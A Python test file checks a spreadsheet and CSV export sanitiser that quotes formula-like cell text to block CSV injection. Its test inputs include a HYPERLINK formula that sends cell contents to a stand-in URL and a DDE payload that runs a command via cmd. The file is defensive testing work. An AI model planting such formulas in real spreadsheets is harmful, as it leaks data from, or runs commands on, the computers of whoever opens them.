"""The one neutraliser every workbook and CSV export goes through (OWASP CSV injection):
formula-like text is quoted, numbers stay numbers."""

from __future__ import annotations

import io
from decimal import Decimal

import polars as pl
import pytest
from openpyxl import Workbook, load_workbook

from salestarget.spreadsheets import cell_text, frame_text, workbook_bytes

PAYLOAD = '=HYPERLINK("http://x"&A1,"点击")'


@pytest.mark.parametrize(
    "text", [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "-"]
)
def test_text_that_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["王小明", "a=b", " =1", "", "-1250.50", "+3", "-.5", "1e5", Decimal("-7.25"), -3, None],
)
def test_ordinary_text_and_numbers_are_left_alone(value: object) -> None:
    assert cell_text(value) == value


def test_a_workbook_keeps_text_as_text_and_negative_amounts_as_numbers() -> None:
    book = Workbook()
    book.active.append([PAYLOAD, Decimal("-1250.50"), -3, "@me"])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    a, b, c, d = sheet[1]
    assert (a.data_type, a.value) == ("s", "'" + PAYLOAD)
    assert (b.data_type, b.value) == ("n", -1250.5)
    assert (c.data_type, c.value) == ("n", -3)
    assert d.value == "'@me"


def test_a_csv_frame_quotes_text_columns_only() -> None:
    frame = pl.DataFrame({"row": [1, -2], "value": [PAYLOAD, "-12.5"]})
    out = frame_text(frame)
    assert out["value"].to_list() == ["'" + PAYLOAD, "-12.5"]
    assert out["row"].to_list() == [1, -2]
